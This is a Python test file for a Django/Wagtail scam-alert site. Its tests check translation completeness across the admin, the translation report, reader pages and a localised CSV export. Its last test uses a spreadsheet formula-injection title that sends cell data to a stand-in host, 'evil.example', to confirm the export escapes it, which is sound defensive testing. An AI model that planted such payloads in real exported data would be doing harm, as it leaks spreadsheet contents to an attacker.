"""A translation is complete only when every text that has English has that language too:
through the real admin (publish, edit view, report, CSV export) and the reader's page."""

import csv
import io
import re

from django.urls import reverse
from wagtail.users.models import UserProfile

from alerts.models import AlertPage, AlertUpdate
from tests.editorial.admin_forms import alert_form_data
from tests.editorial.test_translations_needed import REPORT, rows
from tests.factories import alert


def test_a_romanian_title_alone_is_a_partial_translation_everywhere(
        client, editorial, site_administrator):
    page = alert("Doorstep scam", summary="Someone knocks and asks for cash.")
    client.force_login(site_administrator)
    edit_url = reverse("wagtailadmin_pages:edit", args=(page.pk,))
    data = alert_form_data(site_administrator, page.get_parent(), instance=page,
                           title_en=page.title, slug_en=page.slug, summary_en=page.summary,
                           title_ro="Înșelătoria de la ușă")
    data["action-publish"] = "Publish"
    assert client.post(edit_url, data).status_code == 302
    page = AlertPage.objects.get(pk=page.pk)
    assert page.live and page.title_ro == "Înșelătoria de la ușă"

    assert page.translation_state("ro") == "partial"
    # the editor's panel and the report count it as needing work
    panel = client.get(edit_url).content.decode()
    assert re.search(r'data-language="ro" data-state="partial"', panel)
    assert ("ro", "Doorstep scam", "Partly translated") in rows(
        client.get(REPORT, {"language": "ro"}))
    # the reader is told, and offered the English page
    body = client.get(f"/ro/alerts/{page.slug}/").content.decode()
    assert "Someone knocks and asks for cash." in body
    assert 'class="notice translation-notice"' in body
    assert f'href="/en/alerts/{page.slug_en}/"' in body


def test_the_withdrawal_reason_counts_towards_a_translation(editorial):
    page = alert("Doorstep scam", summary="Someone knocks.", title_pl="Oszustwo na progu",
                 summary_pl="Ktoś puka.")
    assert page.translation_state("pl") == "complete"

    page.withdrawn_reason_en = "The police found this was a hoax."
    page.save_revision().publish()
    page = AlertPage.objects.get(pk=page.pk)
    assert page.translation_state("pl") == "stale"  # the English changed

    page.withdrawn_reason_pl = "Policja ustaliła, że to był żart."
    page.save_revision().publish()
    assert AlertPage.objects.get(pk=page.pk).translation_state("pl") == "complete"


def test_an_update_without_a_translation_makes_the_translation_partial(editorial):
    page = alert("Doorstep scam", summary="Someone knocks.", title_pl="Oszustwo na progu",
                 summary_pl="Ktoś puka.")
    page = AlertPage.objects.get(pk=page.pk)
    page.updates.add(AlertUpdate(text_en="They now also ask for bank cards."))
    page.title_pl = "Oszustwo na progu domu"  # the Polish is written after the update...
    page.save_revision().publish()
    page = AlertPage.objects.get(pk=page.pk)
    assert page.translation_state("pl") == "partial"  # ...but the update has no Polish

    update = page.updates.get()
    update.text_pl = "Teraz proszą też o karty bankowe."
    update.save()
    assert AlertPage.objects.get(pk=page.pk).translation_state("pl") == "complete"


def test_the_csv_export_is_in_the_admin_users_language_with_dates_to_the_minute(
        client, editorial, site_administrator):
    alert("Courier scam calls", title_cy="Galwadau sgam negesydd")  # no Welsh summary
    profile = UserProfile.get_for_user(site_administrator)
    profile.preferred_language = "pl"
    profile.save()
    client.force_login(site_administrator)

    response = client.get(REPORT, {"language": "cy", "state": "partial", "export": "csv"})
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    assert body.startswith("\ufeff")  # so a spreadsheet reads it as UTF-8
    table = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))

    assert table[0] == ["Tytuł", "Typ", "Język", "Tłumaczenie",
                        "Przetłumaczono z wersji angielskiej z dnia"]
    (title, page_type, _language, state, translated_from), = table[1:]
    assert title == "Courier scam calls"
    assert page_type != "alert" and state not in ("Partly translated", "")
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d[+-]\d\d:\d\d", translated_from)


def test_titles_that_look_like_formulas_stay_text_in_the_csv(
        client, editorial, site_administrator):
    alert('=HYPERLINK("http://evil.example/?"&A1,"Click")', slug="formula")
    alert("+44 20 calls claiming to be from HMRC", slug="plus")
    alert("Ordinary title", slug="ordinary")
    client.force_login(site_administrator)

    response = client.get(REPORT, {"language": "cy", "export": "csv"})
    body = b"".join(response.streaming_content).decode().removeprefix("\ufeff")
    titles = {row[0] for row in list(csv.reader(io.StringIO(body)))[1:]}

    assert titles == {"'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                      "'+44 20 calls claiming to be from HMRC", "Ordinary title"}
